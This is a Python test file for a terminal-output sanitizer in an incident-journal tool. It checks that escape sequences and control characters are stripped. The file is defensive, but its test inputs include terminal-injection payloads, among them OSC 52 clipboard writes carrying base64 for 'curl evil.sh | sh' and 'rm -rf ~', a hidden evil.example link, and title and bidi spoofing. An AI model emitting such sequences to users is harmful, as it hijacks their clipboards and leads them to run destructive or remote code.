"""text/terminal.py: what reaches a terminal has no escape sequence and no control
character but newline and tab, and JSON keeps every character as an escape."""

from __future__ import annotations

import json

import pytest
from hypothesis import given
from hypothesis import strategies as st

from mea_culpa.text.terminal import json_for_terminal, safe_for_terminal
from test_journal import START, item, record

ESC, BEL, ST = "\x1b", "\x07", "\x1b\\"

HOSTILE = [
    # (what it does, the hostile text, what must be left)
    ("OSC 52 writes the clipboard (BEL)", f"Hi {ESC}]52;c;Y3VybCBldmlsLnNoIHwgc2g={BEL}there", "Hi there"),
    ("OSC 52 writes the clipboard (ST)", f"Hi {ESC}]52;c;Y3VybA=={ST}there", "Hi there"),
    ("OSC 0 sets the window title", f"{ESC}]0;you have been pwned{BEL}Dear Jo,", "Dear Jo,"),
    ("OSC 8 hides a link target", f"{ESC}]8;;https://evil.example{ST}click{ESC}]8;;{ST}", "click"),
    ("clear screen and home", f"{ESC}[2J{ESC}[HSorry", "Sorry"),
    ("colours", f"{ESC}[1;31mred{ESC}[0m text", "red text"),
    ("cursor up and erase line (rewrites what was shown)", f"ok\n{ESC}[1A{ESC}[2Kfake", "ok\nfake"),
    ("private mode (hide the cursor)", f"{ESC}[?25lhidden cursor", "hidden cursor"),
    ("8-bit CSI", "\x9b2J\x9b31mred", "red"),
    ("8-bit OSC, 8-bit ST", "\x9d0;title\x9cafter", "after"),
    ("DCS (7-bit)", f"{ESC}P1$qm{ST}after", "after"),
    ("DCS (8-bit)", "\x90q#0;2;0;0;0\x9cafter", "after"),
    ("APC, PM, SOS", f"{ESC}_apc{ST}{ESC}^pm{ST}{ESC}Xsos{ST}after", "after"),
    ("reset the terminal (ESC c)", f"{ESC}cafter", "after"),
    ("save cursor, keypad mode, charset", f"{ESC}7{ESC}={ESC}(Bafter", "after"),
    ("an OSC that never ends does not swallow the text", f"a{ESC}]52;c;abc and the rest", "a52;c;abc and the rest"),
    ("a lone ESC at the end", f"end{ESC}", "end"),
    ("bell, backspace, carriage return, form feed, NUL, DEL", "a\x07b\x08c\rd\x0ce\x00f\x7fg", "abcdefg"),
    ("every C1 control", "a" + "".join(map(chr, range(0x80, 0xA0))) + "b", "ab"),
    ("a bidirectional override reorders what is drawn", "invoice \u202egnp.exe\u202c", "invoice gnp.exe"),
    ("carriage return would draw over the line", "safe\rEVIL", "safeEVIL"),
]


@pytest.mark.parametrize(("text", "left"), [(t, left) for _, t, left in HOSTILE], ids=[w for w, _, _ in HOSTILE])
def test_escape_sequences_and_controls_are_taken_out(text: str, left: str):
    assert safe_for_terminal(text) == left


def test_newlines_tabs_and_every_kind_of_printable_text_stay():
    text = "Sorry 🙏🏽 — שלום, عذرًا zero\u200bwidth\u00a0nbsp\n\tindented <b>&</b> ESC[2J as letters\n"
    assert safe_for_terminal(text) == text


def test_many_unterminated_sequences_are_read_in_one_pass():
    """100,000 OSC introducers with no terminator: each scan stops at the next one, so
    this takes milliseconds, not the hours a scan to the end from each would."""
    text = (f"{ESC}]x" + "\x9dy") * 100_000
    assert safe_for_terminal(text) == "xy" * 100_000


CONTROLS = set(map(chr, range(0x00, 0x20))) - {"\n", "\t"} | {"\x7f"} | set(map(chr, range(0x80, 0xA0)))


@given(st.text(alphabet=st.sampled_from([ESC, "\x9b", "\x9d", "\x90", BEL, "\\", "[", "]", "5", "2", ";", "m", "P", "c", "a", "\n", "\t", "é", "\x9c", "\x00"])))
def test_whatever_the_text_nothing_a_terminal_acts_on_is_left(text: str):
    out = safe_for_terminal(text)
    assert not CONTROLS & set(out)
    assert safe_for_terminal(out) == out  # idempotent: nothing new is formed by the removal


@given(st.text())
def test_text_without_controls_is_unchanged(text: str):
    if not CONTROLS & set(text):
        assert safe_for_terminal(text) == text


def test_json_keeps_every_character_as_an_escape():
    value = {"lesson": f"a{ESC}]52;c;x{BEL} \x9b2J \x7f é 🙏", "ok": "plain"}
    text = json_for_terminal(json.dumps(value, ensure_ascii=False))
    assert json.loads(text) == value
    assert not CONTROLS & set(text)
    assert "é 🙏" in text  # only controls are escaped


# --- other people's words in the journal commands --------------------------------------


def test_lines_and_tabs_stay_unless_one_line_is_asked_for():
    assert safe_for_terminal("one\n\ttwo") == "one\n\ttwo"
    assert safe_for_terminal("one\n\ttwo\r\nthree", one_line=True) == "one  two  three"


def _hostile_journal(store_url):
    from mea_culpa.journal import open_journal

    with open_journal(store_url) as journal:
        record(
            journal, "2026-03-02-hostile", title=f"{ESC}[31mCheckout{ESC}[0m down{ESC}]52;c;cm0gLXJmIH4=\x07",
            tags=(f"eu{ESC}[2J",), factors=f"No review\x07 step{ESC}",
            actions=[item(f"Add{ESC}[5m a canary", owner=f"Dana{ESC}[8m"), item("Alert", owner="Sam")],
        )
        record(journal, "2026-03-01-earlier", factors="no review step", start=START.replace(day=1))  # a pattern
        # a to-do put off, its note typed by a colleague: `actions` shows the note
        from test_session import answered, book

        general = book("general")
        journal.save(answered(general, {"apology_sent": {"state": "later", "reason": f"call{ESC}]52;c;cm0gLXJmIH4=\x07 Grace first"}}),
                     playbook=general)


@pytest.mark.parametrize("args", [("history",), ("actions",), ("actions", "--all"), ("stats",)], ids=" ".join)
def test_hostile_titles_answers_and_names_print_without_escapes(store_url, cli, monkeypatch, args):
    monkeypatch.setenv("COLUMNS", "200")
    _hostile_journal(store_url)
    code, out, err = cli(*args)
    assert code == 0, err
    assert ESC not in out and ESC not in err and "\x07" not in out
    shown = " ".join(out.split())
    if args == ("history",):
        assert "Checkout down" in shown
    elif args[0] == "actions":
        assert "Add a canary" in shown and "Dana" in shown and "later: call Grace first" in shown
    else:
        assert "No review step" in shown


def test_json_output_keeps_the_text_as_data(store_url, cli):
    _hostile_journal(store_url)
    rows = json.loads(cli("history", "--json")[1])
    assert any(r["title"].startswith(f"{ESC}[31mCheckout") for r in rows)  # data, escaped by JSON itself
